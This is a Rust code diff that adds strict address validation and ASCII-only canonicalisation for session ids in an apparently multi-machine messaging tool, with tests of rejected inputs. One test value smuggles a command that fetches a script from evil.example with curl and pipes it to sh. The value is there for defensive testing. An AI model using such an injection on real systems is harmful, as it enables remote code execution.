@@ -413,13 +413,105 @@ pub fn expand_recipient(input: &str) -> String {
 }
 
 /// A session id as the fleet writes it: the machine part upper-case (as
-/// Windows shows computer names), the name as given. Session ids compare
-/// case-insensitively in the machine part this way.
+/// Windows shows computer names), the name as given. Upper-casing is ASCII
+/// only: Unicode case folding would make `ſerver` `SERVER`. The one
+/// function the store's migrations and every reader and writer use.
 pub fn canonical_session(id: &str) -> String {
     match id.split_once('/') {
-        Some((m, n)) => format!("{}/{n}", m.to_uppercase()),
+        Some((m, n)) => format!("{}/{n}", m.to_ascii_uppercase()),
         None if id == ALL_SESSIONS => id.to_string(),
-        None => id.to_uppercase(),
+        None => id.to_ascii_uppercase(),
+    }
+}
+
+/// The longest machine or session name.
+pub const MAX_NAME_LEN: usize = 64;
+
+/// Why `part` cannot be a machine or session name, if it cannot: the
+/// address grammar is `[A-Za-z0-9._-]`, 1 to 64 characters — nothing a
+/// shell, a terminal or a reader could take for anything but a name.
+pub fn name_problem(part: &str) -> Option<String> {
+    if part.is_empty() {
+        return Some("must not be empty".into());
+    }
+    if part.len() > MAX_NAME_LEN {
+        return Some(format!("is over {MAX_NAME_LEN} characters"));
+    }
+    if let Some(c) = part
+        .chars()
+        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
+    {
+        return Some(format!(
+            "holds {}, but only letters A-Z, digits, '.', '_' and '-' are allowed",
+            crate::render::quoted_char(c)
+        ));
+    }
+    if part.chars().all(|c| c == '.') {
+        return Some("must not be only dots".into());
+    }
+    None
+}
+
+/// Why `id` is not a session address (`MACHINE/NAME` or `ALL_SESSIONS`).
+pub fn address_problem(id: &str) -> Option<String> {
+    if id == ALL_SESSIONS {
+        return None;
+    }
+    let Some((machine, name)) = id.split_once('/') else {
+        return Some(format!(
+            "{} is not MACHINE/NAME",
+            crate::render::quoted(&crate::render::clip(id, 80))
+        ));
+    };
+    let shown = || crate::render::quoted(&crate::render::clip(id, 80));
+    if let Some(p) = name_problem(machine) {
+        return Some(format!("{}: the machine {p}", shown()));
+    }
+    if let Some(p) = name_problem(name) {
+        return Some(format!("{}: the name {p}", shown()));
+    }
+    if machine.eq_ignore_ascii_case(ALL_SESSIONS) {
+        return Some(format!("{}: ALL_SESSIONS is the broadcast", shown()));
+    }
+    None
+}
+
+/// Whether `id` is a well-formed address (what may be shown bare).
+pub fn is_address(id: &str) -> bool {
+    address_problem(id).is_none()
+}
+
+impl Write {
+    /// Every address this write carries, checked against the grammar:
+    /// `Err((field, why))` for the first that is not one.
+    pub fn check_addresses(&self) -> std::result::Result<(), (&'static str, String)> {
+        let check = |field: &'static str, v: &str| match address_problem(v) {
+            Some(p) => Err((field, p)),
+            None => Ok(()),
+        };
+        match self {
+            Write::SendMessage(m) => {
+                check("to_session", &m.to_session)?;
+                check("from_session", &m.from_session)?;
+                if m.from_session == ALL_SESSIONS {
+                    return Err(("from_session", "ALL_SESSIONS cannot send".into()));
+                }
+                Ok(())
+            }
+            Write::MarkRead { session, .. } => check("session", session),
+            Write::ClaimLock(l) => check("session_id", &l.session_id),
+            Write::ReleaseLock {
+                session_id, force, ..
+            } if !(session_id.is_empty() && *force) => check("session_id", session_id),
+            Write::TouchSession { session_id, .. } => {
+                check("session_id", session_id)?;
+                if session_id == ALL_SESSIONS {
+                    return Err(("session_id", "ALL_SESSIONS is the broadcast".into()));
+                }
+                Ok(())
+            }
+            _ => Ok(()),
+        }
     }
 }
 
@@ -525,7 +617,35 @@ mod tests {
         assert_eq!(expand_recipient("beta"), "BETA/claude-main");
         assert_eq!(expand_recipient("vm/Two"), "VM/Two");
         assert_eq!(canonical_session("howard-home/x"), "HOWARD-HOME/x");
+        // ASCII only: no Unicode folding onto another machine's name.
+        assert_eq!(canonical_session("ſerver/x"), "ſERVER/x");
+        assert_eq!(canonical_session("büro/x"), "BüRO/x");
         assert_eq!(canonical_session(ALL_SESSIONS), ALL_SESSIONS);
+    }
+
+    #[test]
+    fn one_address_grammar() {
+        for ok in ["BOX/claude-main", "a.b/c_d-1", ALL_SESSIONS, "X/..x"] {
+            assert!(is_address(ok), "{ok}");
+        }
+        for bad in [
+            "/x",
+            "x/",
+            "BOX/x/y",
+            "BOX/a\u{1}b",
+            "ＡＬＬ/claude-main",
+            "ВОХ/claude-main",
+            "ſerver/claude-main",
+            "stra\u{200b}ße/x",
+            "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)",
+            "BOX/claude-main ",
+            "BOX/..",
+            "all_sessions/x",
+            "BOX",
+        ] {
+            assert!(!is_address(bad), "{bad}");
+        }
+        assert!(!is_address(&format!("BOX/{}", "a".repeat(65))));
     }
 
     #[test]
